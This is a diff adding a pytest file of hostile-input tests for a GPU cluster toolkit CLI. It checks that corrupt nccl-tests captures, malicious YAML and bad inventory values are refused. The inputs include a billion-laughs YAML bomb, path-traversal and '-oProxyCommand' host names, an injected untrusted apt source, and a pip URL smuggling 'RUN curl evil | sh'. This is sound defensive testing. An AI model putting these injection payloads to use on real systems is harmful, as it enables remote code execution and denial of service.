@@ -1,0 +1,460 @@
+"""Hostile input (issue 15): every case class seen by trying gpunode as an attacker would.
+
+Each test here failed before the fix: a wrong verdict, a traceback-free but wrong exit code, a
+hang or a flood. Bad input must give gpunode's own error naming the file and the rule (exit 2)
+or, for a capture, a result that is not ok with the reason.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import time
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from toolkit import cli
+from toolkit.acceptance.nccltests import MAX_LINE_BYTES, parse
+from toolkit.acceptance.verdict import allreduce_checks
+from toolkit.cli.output import emit_json
+from toolkit.config import MAX_YAML_DEPTH, load_yaml
+from toolkit.errors import ConfigError
+from toolkit.inventory import MAX_RANGE_HOSTS, load_inventory, name_path
+from toolkit.stack.models import load_stack_file
+from toolkit.stack.resolve import repositories
+
+HEADER = """\
+# nccl-tests version 2.17.1 nccl-headers=22602 nccl-library=22602
+# nThread 1 nGpus 1 minBytes 1048576 maxBytes 268435456 step: 16(factor) warmup iters: 5 iters: 20 agg iters: 1 validation: 1 graph: 0
+#
+# Using devices
+#  Rank  0 Group  0 Pid  10204 on     node-a device  0 [0000:1b:00] NVIDIA H200
+#  Rank  1 Group  0 Pid  10205 on     node-a device  1 [0000:43:00] NVIDIA H200
+#
+#                                                              out-of-place                       in-place
+#       size         count      type   redop    root     time   algbw   busbw #wrong     time   algbw   busbw #wrong
+#        (B)    (elements)                               (us)  (GB/s)  (GB/s)            (us)  (GB/s)  (GB/s)
+"""  # noqa: E501
+ROWS = [
+    "     1048576        262144     float     sum      -1    30.12   34.81   34.81      0    29.80   35.19   35.19      0",  # noqa: E501
+    "    16777216       4194304     float     sum      -1    120.5  139.23  139.23      0    119.9  139.93  139.93      0",  # noqa: E501
+    "   268435456      67108864     float     sum      -1   1490.0  180.16  180.16      0   1489.1  180.27  180.27      0",  # noqa: E501
+]
+FOOTER = "# Out of bounds values : 0 OK\n# Avg bus bandwidth    : 118.26\n#\n"
+
+
+def capture(rows: list[str] = ROWS, footer: str = FOOTER) -> str:
+    return HEADER + "\n".join(rows) + "\n" + footer
+
+
+def gpunode(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
+    """Run the CLI in-process through its error boundary: (exit code, stdout, stderr)."""
+    with pytest.raises(SystemExit) as exit_info:
+        cli.main(list(args))
+    captured = capsys.readouterr()
+    code = exit_info.value.code
+    return (code if isinstance(code, int) else 1), captured.out, captured.err
+
+
+def strict_json(text: str) -> Any:
+    """RFC 8259 JSON only: NaN and Infinity are refused."""
+
+    def refuse(constant: str) -> Any:
+        raise ValueError(f"not JSON: {constant}")
+
+    return json.loads(text, parse_constant=refuse)
+
+
+def test_the_healthy_capture_is_ok() -> None:
+    result = parse(capture())
+    assert result.ok and result.complete and result.problems == ()
+
+
+# --- wrong verdicts from `accept parse` ----------------------------------------------------------
+
+
+@pytest.mark.parametrize("wrong", ["nan", "-1", "-inf", "0x1", "inf", "1.5", "٣", "1e"])
+def test_a_row_whose_wrong_column_is_not_a_count_is_never_ok(wrong: str) -> None:
+    rows = [*ROWS]
+    rows[1] = rows[1][: rows[1].rindex("0")] + wrong
+    result = parse(capture(rows))
+    assert not result.ok
+    assert result.problems[0].startswith("unparsed row at line 12: ")
+    assert "#wrong" in result.problems[0]
+
+
+@pytest.mark.parametrize(
+    "rows",
+    [
+        # cut short by a partial write
+        [ROWS[0], ROWS[1][:60], ROWS[2]],
+        # split across two lines
+        [ROWS[0], ROWS[1][:70], ROWS[1][70:], ROWS[2]],
+        # time and bandwidth columns that are not finite numbers
+        [ROWS[0], ROWS[1].replace("120.5", "nan"), ROWS[2]],
+        [ROWS[0], ROWS[1].replace("139.23  139.23", "inf  Infinity"), ROWS[2]],
+        [ROWS[0], ROWS[1].replace("120.5", "1e999"), ROWS[2]],
+    ],
+)
+def test_a_corrupt_row_is_never_dropped_silently(rows: list[str]) -> None:
+    result = parse(capture(rows))
+    assert not result.ok
+    assert any(p.startswith("unparsed row at line 12") for p in result.problems)
+
+
+def test_every_cut_before_the_footer_is_incomplete() -> None:
+    text = capture()
+    # A cut inside the average's figure cannot be told from a shorter figure; the average is
+    # shown, never gated on, and every row and the out-of-bounds verdict were read whole.
+    avg_figure = text.index("# Avg bus bandwidth") + len("# Avg bus bandwidth    : ")
+    first_row = text.index(ROWS[0])
+    for cut in range(first_row + len(ROWS[0]), avg_figure):
+        try:
+            result = parse(text[:cut])
+        except Exception as err:  # only "not an nccl-tests output" may be raised
+            assert type(err).__name__ == "NotNcclTestsOutput"
+            continue
+        assert not result.ok, f"cut at {cut}: {text[:cut][-40:]!r}"
+    # Accepting truncated captures accepts a missing footer, never a cut row.
+    cut_row = parse(text[: text.index(ROWS[2]) + 50], allow_truncated=True)
+    assert cut_row.problems[0].startswith("unparsed row at line 13")
+    excerpt = parse(capture(footer=""), allow_truncated=True)
+    assert excerpt.ok and not excerpt.complete
+
+
+@pytest.mark.parametrize(
+    "footer",
+    [
+        "# Out of bounds values : 1 failed\n# Avg bus bandwidth    : 118.26\n",
+        "# Out of bounds values : 1 FAILED (see above)\n# Avg bus bandwidth    : 118.26\n",
+        "# Out of bounds values : -1 FAILED\n# Avg bus bandwidth    : 118.26\n",
+        "# Out of bounds values : 0 OK\n# Avg bus bandwidth    : 118.26 FAILED\n",
+        "# Out of bounds values : 0 OK\n# Avg bus bandwidth    : -\n",
+        "# Out of bounds values : 0 OK\n# Avg bus bandwidth    : e\n",
+        "# Out of bounds values : 0 OK\n# Avg bus bandwidth    : nan\n",
+    ],
+)
+def test_failing_or_unreadable_footers_are_not_ok(footer: str) -> None:
+    assert not parse(capture(footer=footer)).ok
+
+
+def test_nccl_tests_failure_lines_are_not_ok() -> None:
+    rows = [ROWS[0], "node-a: Test NCCL failure common.cu:1024 'unhandled cuda error'", *ROWS[1:]]
+    result = parse(capture(rows))
+    assert not result.ok and "reported a failure at line 12" in result.problems[0]
+
+
+def _json_capture(**changes: Any) -> str:
+    data = Path(__file__).parent / "data" / "nccl" / "h200_8gpu_json.json"
+    document = json.loads(data.read_text())
+    document.update(changes)
+    return json.dumps(document)
+
+
+@pytest.mark.parametrize("errors", [["CUDA failure"], "CUDA failure", [{"rank": 3}]])
+def test_json_error_entries_fail_the_result(errors: Any) -> None:
+    result = parse(_json_capture(errors=errors))
+    assert not result.ok and result.errors
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {"out_of_bounds": [1]},
+        {"out_of_bounds": {"count": "zero"}},
+        {"average_bus_bandwidth": "fast"},
+        {"config": {"devices": [{"rank": "x"}], "ngpus": "8"}},
+        {"results": [{"size": "1G"}]},
+        {"results": [1, 2]},
+        {"nccl_version": [22703]},
+    ],
+)
+def test_json_with_wrongly_typed_fields_is_refused_or_not_ok(changes: dict[str, Any]) -> None:
+    try:
+        result = parse(_json_capture(**changes))
+    except Exception as err:
+        assert type(err).__name__ == "NotNcclTestsOutput" and err.exit_code == 2  # type: ignore[attr-defined]
+        return
+    if changes.get("nccl_version"):
+        assert result.nccl_version is None
+    else:
+        assert not result.ok
+
+
+def test_json_with_non_finite_numbers_is_not_ok() -> None:
+    text = _json_capture().replace('"time": 4253.0', '"time": NaN', 1)
+    with pytest.raises(Exception, match="non-finite number NaN"):
+        parse(text)
+    text = _json_capture().replace('"bus_bw": 441.81', '"bus_bw": "nan"', 1)
+    assert not parse(text).ok
+
+
+def test_the_acceptance_verdict_fails_on_a_corrupt_row() -> None:
+    rows = [ROWS[0], ROWS[1].replace("      0    119.9", "    nan    119.9"), ROWS[2]]
+    section = {"engine": "nccl-tests", "raw_output": capture(rows), "error": None}
+    (check,) = allreduce_checks(section, [])
+    assert check.name == "allreduce.run" and not check.ok
+    assert "unparsed row at line 12" in check.message
+
+
+# --- strict JSON, and one document on failure ----------------------------------------------------
+
+
+def test_json_output_never_carries_nan_or_infinity(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    emit_json({"a": float("nan"), "b": [float("inf"), -float("inf"), 1.5]})
+    assert strict_json(capsys.readouterr().out) == {"a": None, "b": [None, None, 1.5]}
+    path = tmp_path / "nan.txt"
+    path.write_text(capture([ROWS[0], ROWS[1].replace("139.23  139.23", "nan nan"), ROWS[2]]))
+    code, out, _err = gpunode(capsys, "accept", "parse", str(path), "--json")
+    assert code == 1
+    assert strict_json(out)["ok"] is False
+
+
+@pytest.mark.parametrize(
+    ("args", "code", "kind"),
+    [
+        (["stack", "check", "{tmp}/missing.yml", "--json"], 2, "BadParameter"),
+        (["accept", "parse", "{tmp}/missing.txt", "--json"], 2, "ConfigError"),
+        (["accept", "parse", "{tmp}/not-nccl.txt", "--json"], 2, "NotNcclTestsOutput"),
+        (["stack", "check", "--json", "--no-such-option"], 2, "NoSuchOption"),
+        (["status", "--json"], 2, "MissingParameter"),
+    ],
+)
+def test_a_failing_command_prints_one_error_document(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], args: list[str], code: int, kind: str
+) -> None:
+    (tmp_path / "not-nccl.txt").write_text("hello\n")
+    got, out, _err = gpunode(capsys, *[a.replace("{tmp}", str(tmp_path)) for a in args])
+    assert got == code
+    document = strict_json(out)
+    assert document["ok"] is False
+    assert document["error"]["kind"] == kind and document["error"]["exit_code"] == code
+    assert document["error"]["message"]
+
+
+# --- resource exhaustion -------------------------------------------------------------------------
+
+BILLION_LAUGHS = """\
+a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
+b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
+c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
+d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
+e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
+f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
+g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
+h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
+i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
+"""
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        (BILLION_LAUGHS, "aliases expanded"),
+        ("a: " + "[" * 5000 + "]" * 5000 + "\n", f"nested deeper than {MAX_YAML_DEPTH}"),
+        ("a: " + "{b: " * 2000 + "1" + "}" * 2000 + "\n", f"nested deeper than {MAX_YAML_DEPTH}"),
+        ("a: &x [1, *x]\n", "recursive alias"),
+        ("a: &x {b: *x}\n", "recursive alias"),
+        ("stack: {}\nhardware: {}\nstack: {}\n", "duplicate key 'stack' (lines 1 and 3)"),
+    ],
+)
+def test_hostile_yaml_is_refused_quickly_naming_the_file(
+    tmp_path: Path, text: str, expected: str
+) -> None:
+    path = tmp_path / "stack.yml"
+    path.write_text(text)
+    start = time.monotonic()
+    with pytest.raises(ConfigError) as info:
+        load_stack_file(path)
+    assert time.monotonic() - start < 5
+    assert str(path) in info.value.message and expected in info.value.message
+    assert info.value.exit_code == 2
+
+
+def test_a_large_yaml_file_is_refused(tmp_path: Path) -> None:
+    path = tmp_path / "big.yml"
+    path.write_text("a: " + "x" * (5 * 1024 * 1024) + "\n")
+    with pytest.raises(ConfigError, match="larger than"):
+        load_yaml(path)
+
+
+def test_merge_keys_may_still_override(tmp_path: Path) -> None:
+    path = tmp_path / "merge.yml"
+    path.write_text("base: &b {x: 1, y: 2}\nitem:\n  <<: *b\n  x: 3\n")
+    assert load_yaml(path) == {"base": {"x": 1, "y": 2}, "item": {"x": 3, "y": 2}}
+
+
+@pytest.mark.parametrize("kind", ["fifo", "dev-zero", "directory"])
+def test_non_regular_files_are_refused_without_blocking(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], kind: str
+) -> None:
+    if kind == "fifo":
+        path = tmp_path / "stack.yml"
+        os.mkfifo(path)
+    elif kind == "directory":
+        path = tmp_path / "dir.yml"
+        path.mkdir()
+    else:
+        path = Path("/dev/zero")
+    start = time.monotonic()
+    with pytest.raises(ConfigError) as info:
+        load_stack_file(path)
+    assert str(path) in info.value.message
+    code, _out, err = gpunode(capsys, "accept", "parse", str(path))
+    assert code == 2 and str(path) in err
+    assert time.monotonic() - start < 5
+
+
+@pytest.mark.parametrize("pattern", ["n[0:99][0:99][0:99]", "n[0:99999999]", "n[a:z][0:999]"])
+def test_huge_host_ranges_fail_naming_the_limit(tmp_path: Path, pattern: str) -> None:
+    (tmp_path / "hosts.yml").write_text(f"all:\n  hosts:\n    {pattern}:\n")
+    with pytest.raises(ConfigError) as info:
+        load_inventory(tmp_path)
+    assert f"more than {MAX_RANGE_HOSTS} hosts" in info.value.message
+    assert str(tmp_path / "hosts.yml") in info.value.message
+
+
+def test_a_capture_line_without_end_is_cut(tmp_path: Path) -> None:
+    rows = [ROWS[0], "1" * (2 * MAX_LINE_BYTES), *ROWS[1:]]
+    result = parse(capture(rows))
+    assert not result.ok and "line too long" in result.problems[0]
+    assert len(result.problems[0]) < 400
+
+
+def test_a_size_measured_again_is_one_row_judged_by_its_worst_run() -> None:
+    again = ROWS[2].replace("180.16  180.16      0", "100.00  100.00      5")
+    result = parse(capture([*ROWS, *ROWS, again]))
+    assert len(result.rows) == 3
+    assert result.busbw_at_largest_gbps == 100.0 and result.wrong_total == 5
+    assert not result.ok
+
+
+# --- internal errors where exit 2 belongs --------------------------------------------------------
+
+STACK = """\
+stack:
+  driver: {{version: "{driver}", flavour: open}}
+  cuda: "{cuda}"
+  nccl: "2.26.2-1+cuda12.8"
+  container_toolkit: "1.17.8"
+hardware:
+  gpu: {{model: H100, count: 8, nvswitch: true}}
+{extra}"""
+
+
+def _stack(
+    tmp_path: Path, driver: str = "580.95.05", cuda: str = "12.8.1", extra: str = ""
+) -> Path:
+    path = tmp_path / "stack.yml"
+    text = STACK.format(driver=driver.replace("\n", "\\n"), cuda=cuda, extra=extra)
+    path.write_text(text, encoding="utf-8")
+    return path
+
+
+@pytest.mark.parametrize(
+    ("fields", "expected"),
+    [
+        ({"cuda": "9" * 5000 + ".1"}, "stack.cuda: not a version"),
+        ({"extra": '  data_disks: {disks: [{serial: S1, size: "' + "9" * 400 + '"}]}\n'}, "size"),
+        ({"driver": "５８０.９５.０５"}, "stack.driver.version: not a version"),
+        ({"driver": "٥٨٠.٩٥.٠٥"}, "stack.driver.version: not a version"),
+        ({"driver": "580.95.05\n"}, "stack.driver.version: not a version"),
+    ],
+)
+def test_bad_values_exit_2_naming_file_and_key(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], fields: dict[str, str], expected: str
+) -> None:
+    path = _stack(tmp_path, **fields)
+    code, _out, err = gpunode(capsys, "stack", "check", str(path))
+    assert code == 2, err
+    assert str(path) in err and expected in err
+    assert len(err) < 2000  # the value is echoed cut short, never whole
+
+
+# --- values that should never pass ---------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://mirror.example/cuda/\n",
+        "https://mirror.example/cuda/\ndeb [trusted=yes] http://evil.example/ /",
+        "https://mirror.example/cu da/",
+        "https://mirror.example/cuda/\x1b[2J",
+        "https://mirror.example/\u2028cuda/",
+        "https://",
+        "ftp://mirror.example/cuda/",
+    ],
+)
+def test_repository_urls_are_validated(url: str) -> None:
+    with pytest.raises(ConfigError, match="gpunode_nvidia_repo_url"):
+        repositories("ubuntu2404", "x86_64", {"gpunode_nvidia_repo_url": url})
+
+
+@pytest.mark.parametrize(
+    "host", ["../../../elsewhere", "a/b", ".hidden", "-oProxyCommand=x", "node1\n", "x" * 300]
+)
+def test_inventory_host_names_follow_the_rules(tmp_path: Path, host: str) -> None:
+    (tmp_path / "hosts.yml").write_text(f"all:\n  hosts:\n    {json.dumps(host)}:\n")
+    with pytest.raises(ConfigError) as info:
+        load_inventory(tmp_path)
+    assert "not a valid host name" in info.value.message
+    assert len(info.value.message) < 500
+
+
+def test_host_names_never_leave_their_folder(tmp_path: Path) -> None:
+    assert name_path(tmp_path, "node-01", ".result.json") == tmp_path / "node-01.result.json"
+    with pytest.raises(ConfigError, match="not a valid host name"):
+        name_path(tmp_path, "../../elsewhere", ".result.json")
+
+
+def test_accept_new_is_refused_with_how_to_add_the_key(tmp_path: Path) -> None:
+    (tmp_path / "hosts.yml").write_text(
+        "all:\n  hosts:\n    n1:\n      ansible_ssh_common_args: "
+        "'-o StrictHostKeyChecking=accept-new'\n"
+    )
+    with pytest.raises(ConfigError) as info:
+        load_inventory(tmp_path)
+    message = info.value.message
+    assert "StrictHostKeyChecking=accept-new" in message
+    assert "ssh-keyscan" in message and "known_hosts" in message
+    assert "StrictHostKeyChecking=yes" in message
+
+
+# --- messages ------------------------------------------------------------------------------------
+
+
+def test_accept_parse_errors_name_the_file(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    path = tmp_path / "capture.txt"
+    path.write_text("no rows here\n")
+    code, _out, err = gpunode(capsys, "accept", "parse", str(path))
+    assert code == 2
+    assert f"{path}: not an nccl-tests output" in err
+    path.write_text('{"results": 3}')
+    code, _out, err = gpunode(capsys, "accept", "parse", str(path))
+    assert code == 2 and f"{path}: not an nccl-tests JSON document" in err
+
+
+def test_a_huge_value_is_echoed_cut_short(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    path = _stack(tmp_path, driver="5" * 1_000_000)
+    code, _out, err = gpunode(capsys, "stack", "check", str(path))
+    assert code == 2 and "stack.driver.version" in err
+    assert len(err) < 2000
+
+
+def test_pip_source_urls_follow_the_url_rule() -> None:
+    from toolkit.images.recipe import _url_var
+
+    values = {"gpunode_pip_index_url": "https://pypi.example/simple\nRUN curl evil | sh"}
+    with pytest.raises(ConfigError, match="gpunode_pip_index_url"):
+        _url_var(values, "gpunode_pip_index_url", "group_vars/all")
+    ok = {"gpunode_pip_index_url": "https://pypi.example/simple"}
+    assert _url_var(ok, "gpunode_pip_index_url", "x") == "https://pypi.example/simple"
